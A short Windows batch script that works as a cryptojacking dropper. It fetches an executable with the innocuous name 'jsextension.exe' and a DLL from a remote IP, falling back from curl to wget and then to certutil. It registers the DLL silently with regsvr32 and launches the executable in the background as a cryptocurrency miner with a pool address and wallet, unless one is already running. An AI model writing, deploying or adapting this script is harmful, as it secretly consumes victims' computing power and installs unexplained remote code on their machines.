@echo off
curl http://203.0.113.45/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  wget http://203.0.113.45/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
  certutil.exe -urlcache -f http://203.0.113.45/download/jsextension.exe jsextension.exe
)
curl http://203.0.113.45/sdd.dll -o create.dll
if not exist create.dll (
  certutil.exe -urlcache -f http://203.0.113.45/sdd.dll create.dll
)
set exe_1=jsextension.exe
set "count_1=0"
>tasklist.temp (
tasklist /NH /FI "IMAGENAME eq %exe_1%"
)
for /f %%x in (tasklist.temp) do (
if "%%x" EQU "%exe_1%" set /a count_1+=1
)
if %count_1% EQU 0 (start /B .\jsextension.exe -k --tls --rig-id q -o pool.example.net:443 -u 48DWSRfcfLf9vG4NKcrfkwPaZBzj22RWzoFPdC78BjARmFqLCgxLNhB18QdBcvmpHmepiYTvuM3ipM8JaZoG5Q1FWNzSGn4 --cpu-max-threads-hint=50 --donate-level=1 --background & regsvr32.exe -s create.dll)
del tasklist.temp
